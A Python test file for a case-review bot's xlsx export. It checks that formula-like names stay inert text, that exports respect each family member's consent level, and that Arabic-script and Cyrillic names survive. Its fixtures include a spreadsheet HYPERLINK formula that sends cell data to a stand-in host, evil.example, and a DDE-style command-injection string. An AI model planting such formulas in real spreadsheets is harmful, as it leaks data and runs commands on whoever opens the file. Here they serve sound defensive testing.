"""The xlsx export: the CSV's rows as text cells, nothing a spreadsheet runs, her consent kept."""

from __future__ import annotations

import csv
import hashlib
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.reviewing.bundle import ExportError
from bot.reviewing.export import CSV_FIELDS, export
from bot.reviewing.export_policy import FORMULA_STARTS
from bot.reviewing.export_xlsx import CELL_LIMIT, CUT, text_cell
from tests.export_fixtures import CONSENTS, exported, reviewer_of, seal_draft, walk_with_consent
from tests.harness import Harness
from tests.test_intake_dialogue import PERSONS

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2&C2,"Details")'
COMMAND = "+cmd|' /C calc'!A0"
ARABIC = "ئەركىن نۇرغالى"  # Uyghur, Arabic script
CYRILLIC = "Ерлан Нұрғалиұлы"
HER_NAME = "Гүлбаһрам"


def draft(name: str, alt: str | None = None, story: str = "they came at night") -> dict[str, Any]:
    person: dict[str, Any] = {"name": name, "status": "camp", "reason": "-", "held_at": "@home"}
    if alt is not None:
        person["name_alt"] = alt
    return {
        "about": {"relation": "sister", "own_name": HER_NAME, "residence": "Алматы"},
        "detainees": [person],
        "narrative": [{"text": story}],
        "evidence": [],
        "consent": {"consent_sharing": "publish_named"},
    }


def sheet_of(out: Path) -> Worksheet:
    return load_workbook(out)["cases"]


def cells_of(sheet: Worksheet) -> list[list[Any]]:
    return [[cell for cell in row] for row in sheet.iter_rows()]


def values(sheet: Worksheet) -> list[dict[str, str]]:
    header, *body = [[cell.value or "" for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(header, row, strict=True)) for row in body]


def csv_undone(out: Path) -> list[dict[str, str]]:
    """The CSV's rows with the neutralising `'` taken off again, as docs/export.md says."""
    with out.open(encoding="utf-8-sig", newline="") as table:
        rows = list(csv.DictReader(table))
    return [
        {k: v[1:] if v[:1] == "'" and v[1:2] in FORMULA_STARTS else v for k, v in row.items()}
        for row in rows
    ]


async def test_formula_looking_names_stay_text_and_the_rows_are_the_csvs(
    harness: Harness, tmp_path: Path
) -> None:
    codes = {
        await seal_draft(harness, 7900, draft(HYPERLINK, story=HYPERLINK)): HYPERLINK,
        await seal_draft(harness, 7901, draft(COMMAND, alt="=1+1")): COMMAND,
    }
    out = tmp_path / "cases.xlsx"
    report, _raw = await exported(harness, out, "xlsx", internal=False)
    assert report.exported == 2
    assert report.sha256 == hashlib.sha256(out.read_bytes()).hexdigest()
    sheet = sheet_of(out)
    cells = cells_of(sheet)
    assert [cell.value for cell in cells[0]] == CSV_FIELDS
    # Every cell is text; an answer she did not give is an empty cell.
    filled = [cell for row in cells for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" and isinstance(cell.value, str) for cell in filled)
    assert len(filled) > 2 * 20
    rows = values(sheet)
    assert {row["title"]: row["case_code"] for row in rows} == {v: k for k, v in codes.items()}
    by_code = {row["case_code"]: row for row in rows}
    assert by_code[next(iter(codes))]["narrative"] == HYPERLINK
    row = by_code[list(codes)[1]]
    assert (row["name_other_script"], row["reason"], row["held_at"]) == ("=1+1", "-", "@home")
    # No formula in the file itself: Excel and LibreOffice have nothing to run.
    with zipfile.ZipFile(out) as book:
        xml = book.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml and b'"inlineStr"' in xml
    # The header is frozen and the columns are wide enough to read.
    assert sheet.freeze_panes == "A2"
    widths = {sheet.column_dimensions[c].width for c in ("A", "B", "Z")}
    assert min(widths) >= 10 and max(widths) <= 60
    # The same cases as a CSV: the same rows, once the CSV's `'` is taken off again.
    await exported(harness, tmp_path / "cases.csv", "csv", internal=False)
    assert sorted(rows, key=str) == sorted(csv_undone(tmp_path / "cases.csv"), key=str)


@pytest.mark.parametrize("sharing", CONSENTS)
async def test_partners_get_what_her_consent_allows(
    harness: Harness, tmp_path: Path, sharing: str
) -> None:
    code = await walk_with_consent(harness, 7950, sharing)
    report, _raw = await exported(harness, tmp_path / "partner.xlsx", "xlsx", internal=False)
    rows = values(sheet_of(tmp_path / "partner.xlsx"))
    every_cell = {cell for row in rows for cell in row.values()}
    assert not any(HER_NAME in cell or "Алматы" in cell for cell in every_cell)
    if sharing == "team":
        assert (report.exported, report.excluded_codes, rows) == (0, [code], [])
        report, _raw = await exported(harness, tmp_path / "team.xlsx", "xlsx", internal=True)
        [row] = values(sheet_of(tmp_path / "team.xlsx"))
        assert (report.exported, row["title"], row["own_name"]) == (1, CYRILLIC, HER_NAME)
        return
    [row] = rows
    named = sharing != "publish_anonymous"
    assert row["title"] == (PERSONS[0]["name"] if named else f"{code}/1")
    assert row["consent_sharing"] == sharing and row["consent_un_name_disclosed"] == ""
    assert (PERSONS[0]["id_number"] in every_cell) == named


async def test_arabic_script_and_cyrillic_names_round_trip(
    harness: Harness, tmp_path: Path
) -> None:
    code = await seal_draft(harness, 7990, draft(ARABIC, alt=CYRILLIC))
    out = tmp_path / "names.xlsx"
    await exported(harness, out, "xlsx", internal=True)
    [row] = values(sheet_of(out))
    assert (row["case_code"], row["title"], row["name_other_script"]) == (code, ARABIC, CYRILLIC)
    assert row["own_name"] == HER_NAME and row["relation__kk"] and row["status__ru"]


async def test_an_existing_file_is_never_overwritten(harness: Harness, tmp_path: Path) -> None:
    await seal_draft(harness, 7995, draft(CYRILLIC))
    out = tmp_path / "cases.xlsx"
    out.write_bytes(b"hers")
    with pytest.raises(ExportError, match="exists already"):
        await export(reviewer_of(harness), out, "xlsx")
    assert out.read_bytes() == b"hers"


def test_what_a_cell_cannot_hold_is_shown_not_dropped() -> None:
    assert text_cell("a\x00b\x1bc\td\ne") == "a\ufffdb\ufffdc\td\ne"
    long = text_cell("ж" * (CELL_LIMIT + 10))
    assert len(long) == CELL_LIMIT and long.endswith(CUT)
    emoji = text_cell("😀" * CELL_LIMIT)  # two UTF-16 units each, as Excel counts
    assert len(emoji.encode("utf-16-le")) // 2 <= CELL_LIMIT and emoji.endswith(CUT)
    assert text_cell(HYPERLINK) == HYPERLINK
